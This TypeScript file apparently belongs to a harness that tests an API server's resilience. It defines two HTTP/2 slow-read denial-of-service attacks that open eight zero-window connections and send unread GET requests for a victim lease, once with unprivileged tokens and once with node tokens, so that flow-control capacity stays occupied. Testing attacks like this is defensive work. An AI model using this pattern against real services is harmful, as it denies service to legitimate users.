import type { Attack } from '../attack-definition.js';
import type { Attacker } from '../attacker.js';
import { IDLER_TOKENS, INNOCENT_NAMESPACE, leasesOf, NODE_TOKENS, requestFields, VICTIM_LEASE } from '../identities.js';
import { hoard } from './hoard.js';

const CONNECTIONS = 8;
const PATH = `${leasesOf(INNOCENT_NAMESPACE)}/${VICTIM_LEASE}`;

async function unreadGets(attacker: Attacker, tokens: readonly [string, string]): Promise<void> {
  await attacker.lanes(CONNECTIONS, async (lane) => {
    const connection = await attacker.http2({ initialWindow: 0 });
    await hoard(attacker, connection, requestFields('GET', PATH, tokens[lane % 2]));
  });
}

export const unreadGetsOfUsers: Attack = {
  name: 'unread-gets',
  about: 'two users without rights GET a lease on 8 connections x 100 streams and never open a window: holds the seats of flow control',
  run: (attacker) => unreadGets(attacker, IDLER_TOKENS),
};

export const unreadGetsOfNodes: Attack = {
  name: 'unread-node-gets',
  about: 'the same with the credentials of two nodes: holds the seats of the level of nodes',
  run: (attacker) => unreadGets(attacker, NODE_TOKENS),
};
